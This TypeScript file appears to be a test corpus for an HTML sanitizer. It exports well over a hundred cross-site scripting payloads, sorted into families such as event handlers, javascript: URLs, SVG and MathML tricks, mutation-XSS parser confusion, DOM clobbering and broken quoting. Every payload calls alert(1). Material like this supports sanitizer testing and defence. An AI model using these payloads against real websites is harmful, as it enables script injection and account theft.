const js = 'javascript:alert(1)';

/** Known ways of making markup run script, by family. Each calls `alert`. */
export const vectors: Record<string, string[]> = {
  'script elements': [
    '<script>alert(1)</script>', '<SCRIPT>alert(1)</SCRIPT>', '<script >alert(1)</script >', '<script/x>alert(1)</script>', '<script\n>alert(1)</script>', '<script src="data:text/javascript,alert(1)"></script>',
    '<script type="module">alert(1)</script>', '<script>alert(1)//', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<script><!--\nalert(1)</script>', '<script type="text/javascript" defer src=data:,alert(1)></script>', '<div><script>alert`1`</script></div>',
    '<script>setTimeout("alert(1)")</script>', '<script>eval(atob("YWxlcnQoMSk="))</script>', '</p><script>alert(1)</script>',
  ],
  'handlers of pictures': [
    '<img src=x onerror=alert(1)>', '<img src=x onerror="alert(1)">', '<IMG SRC=x ONERROR=alert(1)>', '<img/src=x/onerror=alert(1)>', '<img src=x:x onerror=alert(1)>', '<img src=x onerror=\n=alert(1)><img src=x onerror=\nalert(1)>',
    '<img src=x onerror=&#97;lert(1)>', '<img src=x onerror=\u0061lert(1)>', '<img src=x onerror=alert`1`>', '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=alert(1)>', '<img srcset=x onerror=alert(1)>', '<picture><source srcset=x><img onerror=alert(1)></picture>',
    '<image src=x onerror=alert(1)>', '<img """><img src=x onerror=alert(1)>">', '<img src=`x` onerror=alert(1)>', '<input type=image src=x onerror=alert(1)>', '<img src=x onerror="window[\'al\'+\'ert\'](1)">', '<img\tsrc=x\fonerror=alert(1)>',
  ],
  'handlers that start by themselves': [
    '<body onload=alert(1)>', '<body onpageshow=alert(1)>', '<svg onload=alert(1)>', '<iframe onload=alert(1)></iframe>', '<input autofocus onfocus=alert(1)>', '<select autofocus onfocus=alert(1)>', '<textarea autofocus onfocus=alert(1)></textarea>',
    '<button autofocus onfocus=alert(1)>x</button>', '<a href=x autofocus onfocus=alert(1)>x</a>', '<details open ontoggle=alert(1)>x</details>', '<video><source onerror=alert(1)></video>', '<video src=x onerror=alert(1)></video>', '<audio src=x onerror=alert(1)></audio>',
    '<audio src onloadstart=alert(1)></audio>', '<object data=x onerror=alert(1)></object>', '<link rel=stylesheet href=x onerror=alert(1)>', '<style onload=alert(1)></style>', '<embed src=/ onload=alert(1)>', '<div tabindex=1 autofocus onfocus=alert(1)>x</div>', '<marquee onstart=alert(1)>x</marquee>',
    '<script src=x onerror=alert(1)></script>', '<track onerror=alert(1)>', '<video onloadstart=alert(1)><source></video>',
  ],
  'handlers that wait for somebody': [
    '<b onclick=alert(1)>x</b>', '<a onclick="alert(1)">x</a>', '<div onclick=alert(1)>x</div>', '<p onmouseover=alert(1)>x</p>', '<p onpointerdown=alert(1)>x</p>', '<button onclick=alert(1)>x</button>', '<td onclick=alert(1)>x</td><span onclick=alert(1)>y</span>',
    '<span oncopy=alert(1) onclick=alert(1)>x</span>', '<h1 onmouseenter=alert(1)>x</h1>', '<li onfocusin=alert(1) tabindex=0>x</li>', '<label onclick=alert(1)>x</label>', '<table onclick=alert(1)><tr><td>x</table>', '<em ONCLICK=alert(1)>x</em>', '<i/onclick=alert(1)>x</i>',
  ],
  'addresses that run': [
    `<a href="${js}">x</a>`, '<a href="JaVaScRiPt:alert(1)">x</a>', '<a href=" javascript:alert(1)">x</a>', '<a href="java&#10;script:alert(1)">x</a>', '<a href="java&#9;script:alert(1)">x</a>', '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>', '<a href="javascript&colon;alert(1)">x</a>', '<a href="java&Tab;script:alert(1)">x</a>', '<a href="java&NewLine;script:alert(1)">x</a>', '<a href="javascript:/*--></title>*/alert(1)">x</a>', '<a href="javascript://%0aalert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74(1)">x</a>', '<a href="\u0000javascript:alert(1)">x</a>', '<a href="&#x1f;javascript:alert(1)">x</a>', '<area href=javascript:alert(1)>', '<a href="vbscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', '<map name=m><area shape=default href=javascript:alert(1)></map>', '<a href=javascript:alert(1) target=_self>x</a>', '<a href="javascript:javascript:alert(1)">x</a>',
  ],
  frames: [
    `<iframe src="${js}"></iframe>`, '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>', '<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>', '<iframe src="data:text/html,<script>parent.alert(1)</script>"></iframe>', '<iframe src=" javascript:parent.alert(1)"></iframe>', '<iframe/src=javascript:parent.alert(1)>',
    '<iframe src="java&#10;script:parent.alert(1)"></iframe>', '<frameset onload=alert(1)></frameset>', '<frameset><frame src=javascript:alert(1)></frameset>', '<iframe srcdoc=<svg/onload=parent.alert(1)>></iframe>', '<object data="javascript:alert(1)"></object>', '<embed src="javascript:alert(1)">', '<object data="data:text/html,<script>parent.alert(1)</script>"></object>',
  ],
  forms: [
    `<form action="${js}"><button>x</button></form>`, `<form><button formaction="${js}">x</button></form>`, `<form id=f></form><button form=f formaction="${js}">x</button>`, `<form><input type=submit formaction="${js}"></form>`, `<form action="${js}"><input type=submit></form>`, `<form><input type=image formaction="${js}"></form>`,
    '<form onsubmit=alert(1)><button>x</button></form>', '<form><input type=button onclick=alert(1)></form>', `<isindex type=image src=1 onerror=alert(1)><form action="${js}"><button>x`, '<form><button onfocus=alert(1) autofocus>x</button></form>',
  ],
  'vector graphics': [
    '<svg><script>alert(1)</script></svg>', '<svg><script href="data:,alert(1)"></script></svg>', '<svg><a href="javascript:alert(1)"><text y=20>x</text></a></svg>', '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>', '<svg><set onbegin=alert(1) attributeName=x></svg>',
    '<svg><image href=x onerror=alert(1)></svg>', '<svg/onload=alert(1)>', '<svg><g onload=alert(1)></g></svg>', '<svg><a><animate attributeName=href values=javascript:alert(1)></animate><text y=20>x</text></a></svg>', '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>', '<svg><desc><img src=x onerror=alert(1)></desc></svg>', '<svg><script>alert&#40;1&#41;</script></svg>',
    '<svg><title><img src=x onerror=alert(1)></title></svg>',
  ],
  'mathematics': [
    '<math><mtext><img src=x onerror=alert(1)></mtext></math>', '<math><mi><img src=x onerror=alert(1)></mi></math>', '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>', '<math href="javascript:alert(1)">x</math>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<math><mtext><script>alert(1)</script></mtext></math>',
  ],
  'markup that changes when it is read again': [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>', '<svg></p><style><a id="</style><img src=x onerror=alert(1)>"></svg>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">', '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>">', '<noframes><p title="</noframes><img src=x onerror=alert(1)>">', '<textarea><p title="</textarea><img src=x onerror=alert(1)>">', '<title><p title="</title><img src=x onerror=alert(1)>">', '<style><p title="</style><img src=x onerror=alert(1)>">', '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
    '<!--><img src=x onerror=alert(1)>-->', '<!-- --!><img src=x onerror=alert(1)>', '<![CDATA[><img src=x onerror=alert(1)>]]>', '<?xml ><img src=x onerror=alert(1)>?>', '<!x><img src=x onerror=alert(1)>', '<select><style></select><img src=x onerror=alert(1)></style></select>', '<table><a href="</table><img src=x onerror=alert(1)>"><svg><style></table><img src=x onerror=alert(1)>',
    '<plaintext><p></plaintext><img src=x onerror=alert(1)>', '<template><script>alert(1)</script></template><img src=x onerror=alert(1)>', '&lt;img src=x onerror=alert(1)&gt;<img src=x onerror=alert(1)>',
  ],
  'documents within': [
    '<base href="javascript:/a/"><a href=",alert(1)">x</a><img src=x onerror=alert(1)>', '<meta http-equiv=refresh content="0;url=javascript:alert(1)"><svg onload=alert(1)>', '<link rel=import href="data:text/html,<script>alert(1)</script>"><svg onload=alert(1)>', '<html><head><script>alert(1)</script></head></html>', '<body background="javascript:alert(1)" onload=alert(1)>', '<object><param name=src value=javascript:alert(1)></object><img src=x onerror=alert(1)>',
    '<template shadowrootmode=open><img src=x onerror=alert(1)></template><img src=x onerror=alert(1)>', '<div><template shadowrootmode=open><script>alert(1)</script></template></div>', '<portal src=javascript:alert(1)></portal><img src=x onerror=alert(1)>',
  ],
  styles: [
    '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)>x</p>', '<p style="background:url(javascript:alert(1))" onclick=alert(1)>x</p>', '<p style="width:expression(alert(1))" onclick=alert(1)>x</p>', '<p style="-moz-binding:url(data:text/xml,x)" onclick=alert(1)>x</p>', '<style>p{transition:color 1ms}p:hover{color:red}</style><p ontransitionrun=alert(1) onclick=alert(1)>x</p>', '<p style=\'x:"</style><img src=x onerror=alert(1)>\'>x</p><img src=x onerror=alert(1)>',
    '<style></style/><img src=x onerror=alert(1)></style>', '<link rel=stylesheet href="data:text/css,*{x:y}" onload=alert(1)>', '<style>@import "data:text/css,";</style><style onload=alert(1)></style>',
  ],
  'names that stand in the way': [
    '<img name=getElementById src=x onerror=alert(1)>', '<form id=document><input name=body></form><img src=x onerror=alert(1)>', '<form><input name=attributes onfocus=alert(1) autofocus></form>', '<form onclick=alert(1)><input name=removeAttribute><button>x</button></form>', '<a id=location href="javascript:alert(1)">x</a>', '<form><input name=parentNode><img src=x onerror=alert(1)></form>', '<img id=constructor src=x onerror=alert(1)>',
  ],
  'broken quoting': [
    '"><img src=x onerror=alert(1)>', '\'><img src=x onerror=alert(1)>', '"><script>alert(1)</script>', '<p title="\'><img src=x onerror=alert(1)>"><img src=x onerror=alert(1)>', '<a title=\'"><svg onload=alert(1)>\'>x</a><svg onload=alert(1)>', '--><img src=x onerror=alert(1)>', ']]><img src=x onerror=alert(1)>', '</textarea><img src=x onerror=alert(1)>', '</title><script>alert(1)</script>', '<p x="`><img src=x onerror=alert(1)>`"><img src=x onerror=alert(1)>',
    '<<img src=x onerror=alert(1)>', '<a/href="x"onclick="alert(1)">x</a>',
  ],
};
